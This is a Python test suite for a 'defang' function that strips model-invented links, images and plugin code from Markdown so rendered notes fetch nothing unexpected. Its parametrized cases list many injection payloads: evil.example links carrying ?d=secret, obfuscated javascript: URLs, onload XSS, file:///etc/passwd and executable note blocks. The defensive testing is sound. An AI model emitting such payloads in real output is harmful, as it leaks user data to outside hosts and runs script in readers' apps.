"""No spelling of an address that the model made up survives a real Markdown program."""

import html
import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from homebody.actions.addresses import named_in
from homebody.actions.defang import defang

SOURCE = (
    "See https://a.example/x, [plan](https://good.example/plan), ![](https://good.example/a.png) and"
    " <https://good.example/auto>. <b>Bold</b>, ftp://old.example/f_(1), https://good.example/?a=1&amp;b=2."
)
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table"])
FETCHED = re.compile(
    r"""<[a-z][^>]*?\s(?:href|src|srcset|action|data|poster|style|on\w+)\s*=\s*["']?([^"'>]*)""",
    re.IGNORECASE,
)


def fetched(text: str) -> list[str]:
    """Return every address that a Markdown program would make a link or a picture of."""
    return [html.unescape(found) for found in FETCHED.findall(MARKDOWN.render(text))]


@pytest.mark.parametrize(
    "text",
    [
        "https://a.example.evil.com/",
        "https://a.example/x?d=secret",
        "https://a.example/xx",
        "https://a.example/",
        "https://a.example/x#secret",
        "https://a.example/x](https://evil.example/)",
        "ftp://old.example/f_(1)?d=secret",
        "[plan](https://good.example/plan?d=secret)",
        "[plan](https://good.example/plan 'https://evil.example')",
        "![](https://good.example/plan)",
        "![a][r]\n\n[r]: https://evil.example/?d=1",
        "[r]\n\n[r]: <https://evil.example/?d=1>",
        "[r][]\n\n[r]: //evil.example/?d=1",
        "[r]\n\n[r]:\n  https:evil.example",
        "[^1]\n\n[^1]: https://evil.example/?d=1",
        "<https://evil.example/?d=1>",
        "<img\nsrc=https://evil.example/?d=1>",
        "<img srcset='https:evil.example 1x'>",
        "<div style='background:url(//evil.example/x)'>",
        "<style>@import 'https:evil.example'</style>",
        "<iframe src=//evil.example></iframe>",
        "<svg/onload=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x](data:text/html,x)",
        "[x](https&#58;//evil.example)",
        "https&colon;&sol;&sol;evil.example/?d=1",
        "https&amp;#58;//evil.example/?d=1",
        "&lt;img src=https://evil.example/&gt;",
        "[x](//evil.example/?d=1)",
        "[x](/\\evil.example/?d=1)",
        "[x](\\\\evil.example\\share)",
        "[x](https:evil.example)",
        "[x](https:\\\\evil.example)",
        "[a\\]b](https:evil.example)",
        "[[x](https:evil.example)](https:evil.example)",
        "[![](https:evil.example)](https://good.example/plan)",
        "ht\u200dtps://evil.example/?d=1",
        "https:\u200c//evil.example/?d=1",
        "https://gооd.example/plan",
        "https://xn--gd-4ja.example/plan",
        "HTTPS://GOOD.example/plan",
        "![[notes/secret]]",
        "file:///etc/passwd",
        "smb://evil.example/x",
        "evil.example/?d=secret",
    ],
)
def test_only_what_the_document_names_whole_can_be_opened(text: str) -> None:
    """Each spelling of something else is dead: as a link, as a picture, and as bare words."""
    after = defang(text, SOURCE)
    assert set(fetched(after)) <= {"https://good.example/plan"}
    assert not re.search(
        r"(?<!hxxp)(?<!hxxps)(?:https?|ftp|file|smb|javascript):(?=\S)",
        after.replace("https://good.example/plan", ""),
        re.IGNORECASE,
    )
    assert "![[" not in after


@pytest.mark.parametrize(
    "text",
    [
        "https://a.example/x",
        "(https://a.example/x).",
        "**https://a.example/x**, and more",
        "[ours](https://good.example/plan)",
        "[plan](https://good.example/plan)",
        "![](https://good.example/a.png)",
        "<https://good.example/auto>",
        "ftp://old.example/f_(1)",
        "https://good.example/?a=1&b=2",
        "<b>Bold</b>",
        "AT&T, 3 < 4 > 2, a_b, and/or, z.B./usw., 12.5/3",
        "```python\nx = [1](2)[0]\n```".replace("](", "] ("),
        "- [ ] clear the attic\n- [x] done: yes",
        "می‌خواهم",
    ],
)
def test_what_the_document_names_stays(text: str) -> None:
    """A whole address stays as it is, wherever it stands in the sentence."""
    assert text == defang(text, SOURCE)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("```dataviewjs\nrequestUrl('x')\n```", "```\nrequestUrl('x')\n```"),
        ("~~~ mermaid\nclick\n~~~", "~~~ \nclick\n~~~"),
        ("```{r}\nx\n```", "```\nx\n```"),
        ("> ```js-engine\n> x\n> ```", "> ```\n> x\n> ```"),
        ("`= this.file`", "`\\= this.file`"),
        ("`$= dv.view('x')`", "`\\$= dv.view('x')`"),
        ("<% tp.system.x() %>", "&lt;% tp.system.x() %>"),
        ("<?php x() ?>", "&lt;?php x() ?>"),
    ],
)
def test_no_note_program_runs_what_the_model_wrote(text: str, expected: str) -> None:
    """Blocks, inline queries and templates that plug-ins carry out when a note is opened become words."""
    assert expected == defang(text, text.replace("x", "y"))


PIECES = [
    *("https://", "https:", "//", "evil.example", "a.example", "good.example", "/x", "/plan", "?d=1", "javascript:"),
    *("[", "]", "(", ")", "![", "](", "][", "]:", "<", ">", "<img src=", "<a href='", "'", '"', "\n", "\n\n", " "),
    *("&#58;", "&colon;", "&amp;", "\\", "`", "```", "!", "www.", "data:", "r", "[r]: ", "\u200d", "https://a.example/x"),
    *("[plan](https://good.example/plan)", "![](https://good.example/a.png)"),
]  # fmt: skip


@settings(max_examples=400)
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
@example("https:" + "&amp;" * 30 + "#58;//evil.example")
def test_after_a_real_renderer_nothing_made_up_is_left(text: str) -> None:
    """Whatever the pieces make together: each address that would be fetched or opened is named by the document."""
    named = {html.unescape(one) for one in named_in(SOURCE)}
    for address in fetched(defang(text, SOURCE)):
        assert address in named


@settings(max_examples=200)
@given(st.lists(st.sampled_from(PIECES), max_size=10).map("".join))
def test_once_is_enough(text: str) -> None:
    """Doing it again leaves nothing alive, either."""
    once = defang(text, SOURCE)
    assert not set(fetched(defang(once, SOURCE))) - {html.unescape(one) for one in named_in(SOURCE)}


@pytest.mark.parametrize(
    "source",
    [
        "https://" + ")" * 100_000,
        ("https://a.example/" + ")" * 4000 + " ") * 20,
        "a." * 50_000,
        "a-" * 50_000,
        "x" * 100_000,
        "://" * 33_000,
        "&amp;" + "amp;" * 25_000,
        "www." * 25_000,
        "/\\" * 33_000,
        "data:" * 20_000,
    ],
    ids=lambda text: text[:12],
)
def test_a_hostile_document_costs_no_minutes(source: str) -> None:
    """Finding the addresses of a hundred thousand characters takes about as long for the worst as for others."""
    began = time.process_time()
    defang("See https://evil.example/?d=1", source)
    assert time.process_time() - began < 2


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "](", "[a](", "<", "a.", "&amp;", "`", "```", "https:", "[a][", "\u200d", "~~~", "![[", "(("],
)
def test_no_slot_is_too_twisted(piece: str) -> None:
    """Nor does the longest slot that is nothing but the beginning of something."""
    began = time.process_time()
    defang((piece * 4000)[:4000], SOURCE)
    assert time.process_time() - began < 2
